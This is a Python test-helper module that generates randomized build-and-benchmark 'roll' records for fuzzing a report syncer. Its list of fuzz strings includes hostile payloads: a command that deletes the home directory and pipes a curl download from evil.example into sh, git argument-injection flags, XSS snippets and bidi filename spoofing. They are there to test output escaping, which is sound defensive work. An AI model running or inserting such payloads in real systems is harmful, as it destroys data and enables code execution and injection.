"""Rolls of every shape, drawn from the dataclasses themselves, and one that looks real."""

from __future__ import annotations

from dataclasses import is_dataclass
from enum import Enum
from types import NoneType, UnionType
from typing import Any, get_args, get_origin, get_type_hints

from hypothesis import strategies as st

from syncer import model
from syncer.bench.compare import figures
from syncer.model import (
    BenchesResult,
    BenchResult,
    BuildResult,
    Descent,
    Firmware,
    Layer,
    Move,
    NewestGood,
    OverrideResult,
    PatchResult,
    PatchVerdict,
    Pin,
    Rebased,
    Resolved,
    Roll,
    StageRecord,
    Tool,
    TreeResult,
    Verdict,
)
from syncer.port import Gates

NASTY = (
    "@everyone",
    "Fixes #12, closes GH-7; resolves org/repo#3",
    "see https://github.com/org/repo/issues/9 or www.example.org, a@b.example",
    "<script>alert(1)</script><!-- sync: {} -->",
    "| a | b |\n|---|---|\n| c | d |",
    "\r\n\r\n# Heading\n```\n",
    "a ``b`` `c",
    "\\| \\\\| \\@x [x](javascript:y) ![i](z) [^1]",
    "\x1b[31mred\x1b[0m \x9b\x00\u202egnp.exe\u2066\u2028\ufeff",
    "1. - + = --- === :--",
    "- item",
    "7) item",
    "===",
    "</details></pre>",
    "caf\udce9 $x^2$ *b* _i_ __b__ ~~s~~ &amp; &lt;",
    "[bold]rich[/bold] markup",
    "x" * 400,
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A href "https://evil.example"',
    "%%{init: {'securityLevel': 'loose'}}%%",
    "$(rm -rf ~); `id`; ${IFS}; && curl https://evil.example | sh",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J\x07",
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 \u3164\u115f",
    "a\u034f\U000e0041\ufe01\u200b\u2060b",
    "admin\u202e\u2066txt.exe\u2069\u200f",
    "[x]: https://evil.example\n[^1]: note <https://evil.example> mailto:a@b.example",
    "![](https://evil.example/pixel.png) <img src=//evil.example> &#64;everyone &commat;here",
    "org/repo@0123456789abcdef0123456789abcdef01234567 org/repo#1 GH-12 _gh-3 (#4) user#5",
    ":tada: :+1: a::b::c",
    "Closes: https://github.com/org/repo/pull/1 resolves GH-1 fixed #2",
    "> quote\n\n    code\n~~~\nfence\n- [ ] task\n***\n<!-- -->\n<![CDATA[x]]><?php ?>",
    "</code></pre></details></summary><summary>x",
    "{{ doc }} {% raw %} {# x #}",
    "--upload-pack=sh -oProxyCommand=sh",
    "",
)
texts = st.sampled_from(NASTY) | st.text(max_size=30)
ids = st.text("0123456789abcdef", min_size=40, max_size=40)
counts = st.integers(0, 2**32 - 1)

# Fields whose type says less than the schema.
_NARROWER: dict[tuple[type, str], st.SearchStrategy[Any]] = {
    (Pin, "url"): texts | st.just("https://github.com/org/repo.git"),
    (Pin, "commit"): ids,
    (Pin, "tree"): ids,
    (Move, "old"): st.none() | ids,
    (Move, "new"): ids,
    (model.Notable, "commit"): ids,
    (NewestGood, "wanted"): ids,
    (NewestGood, "good"): ids,
    (NewestGood, "bad"): ids,
    (Descent, "mark"): st.sampled_from("=!<>"),
    (model.Program, "kind"): st.sampled_from(["benchmark", "check", "test", "example"]),
    (Firmware, "kind"): st.sampled_from(["benchmark", "check", "test", "example"]),
    (model.TestResult, "stage"): st.sampled_from(["build", "run"]),
    (model.Section, "memory"): st.sampled_from(["flash", "ram", "flash+ram"]),
    (model.Figure, "unit"): st.sampled_from(["cycles", "us", "bytes"]),
    (model.PublishedItem, "action"): st.sampled_from(["created", "updated", "unchanged", "closed"]),
    (model.Figure, "against"): st.sampled_from(["", "accepted", "anchor"]),
}


def _strategy(kind: Any) -> st.SearchStrategy[Any]:
    if get_origin(kind) is UnionType:
        return st.one_of(*map(_strategy, get_args(kind)))
    if get_origin(kind) is tuple:
        parts = get_args(kind)
        if parts[-1] is Ellipsis:
            return st.lists(_strategy(parts[0]), max_size=3).map(tuple)
        return st.tuples(*map(_strategy, parts))
    if get_origin(kind) is dict:
        return st.dictionaries(*map(_strategy, get_args(kind)), max_size=3)
    if is_dataclass(kind) and isinstance(kind, type):
        known = {name: given for (owner, name), given in _NARROWER.items() if owner is kind}
        hints = {name: hint for name, hint in get_type_hints(kind).items() if name not in known}
        return st.builds(kind, **known, **{name: _strategy(hints[name]) for name in hints})
    if isinstance(kind, type) and issubclass(kind, Enum):
        return st.sampled_from(kind)
    simple: dict[Any, st.SearchStrategy[Any]] = {
        str: texts,
        int: counts,
        bool: st.booleans(),
        float: st.floats(0, 1e6),
        NoneType: st.none(),
    }
    return simple[kind]


def rolls() -> st.SearchStrategy[Roll]:
    """Any roll the dataclasses allow, filled with hostile text."""
    found: st.SearchStrategy[Roll] = _strategy(Roll)
    return found


OLD, NEW, NN_OLD, NN_NEW = ("1" * 40, "90b983c2b3f1" + "2" * 28, "3" * 40, "4" * 40)
STAGES = ("resolve", "rebase", "tree", "build", "test", "bench", "report", "publish")
URL = "https://github.com/tensorflow/tflite-micro"


def benches(cycles: int = 12_500_000) -> BenchResult:
    layers = (
        Layer(0, "CONV_2D", 90_000, cycles - 1_250_000, crc=7, host_crc=7),
        Layer(1, "SOFTMAX", 10_000, 1_250_000, crc=8, host_crc=8),
    )
    return BenchResult(
        "vision", "emulator", 125_000_000, 100_000, layers, cycles, 82_308, 400_000, 90_000,
        Verdict.PASSED,
    )  # fmt: skip


ACCEPTED = {
    "vision/cycles": 12_400_000, "vision/arena": 82_308, "vision/flash": 399_000,
    "vision/ram": 90_100, "vision/layer/0/CONV_2D": 11_150_000,
}  # fmt: skip


def real_roll(
    accepted: dict[str, int] | None = None,
    cycles: int = 12_500_000,
    anchor: dict[str, int] | None = None,
) -> Roll:
    """A roll that went well: 214 commits of upstream, a component moved, a patch absorbed."""
    bench = benches(cycles)
    known = ACCEPTED if accepted is None else accepted
    first = not known
    build = BuildResult(
        tools=(Tool("arm-none-eabi-gcc", "12.2.1", "/opt/gcc"),),
        firmware=(
            Firmware(
                name="hello", kind="example", board="pico", elf="/x/hello.elf", sha256="5" * 64,
                flash=30_000, ram=5_000,
            ),
        ),
    )  # fmt: skip
    return Roll(
        port="pico-tflmicro",
        verdict=Verdict.PASSED,
        stages=tuple(StageRecord(name, Verdict.PASSED, 1.5) for name in STAGES),
        resolved=Resolved(
            upstream=Pin("tflite-micro", URL, NEW, "6" * 40),
            components=(Pin("cmsis_nn", "https://nn.example", NN_NEW, "7" * 40, "v6", "nn.sh"),),
            moves=(
                Move("tflite-micro", None if first else OLD, NEW, 0 if first else 214,
                     () if first else ((OLD, "Fix #12 for @someone"),)),
                Move("cmsis_nn", None if first else NN_OLD, NN_NEW),
            ),
        ),
        rebased=Rebased(
            trees={"tflite-micro": "8" * 40},
            patches=(
                PatchResult("tflite-micro", "0001-a.patch", "Do a", PatchVerdict.CLEAN),
                PatchResult("cmsis_nn", "0002-b.patch", "Do b", PatchVerdict.ABSORBED),
            ),
            overrides=(OverrideResult("cmsis_nn", "Source/x.c", "port/x.c", "9" * 40, None),),
        ),
        tree=TreeResult("/x/tree", "a" * 64, 812, 9_000_000, 310, 420, {"tflite-micro": 812}),
        build=build,
        tests=model.TestsResult(
            (model.TestResult("conv_test", True, (model.TestCase("Conv.Simple", True),)),)
        ),
        benches=BenchesResult(
            (bench,),
            figures([bench], build, known, Gates(), anchor),
            "nothing was accepted before" if first else "",
        ),
    )  # fmt: skip
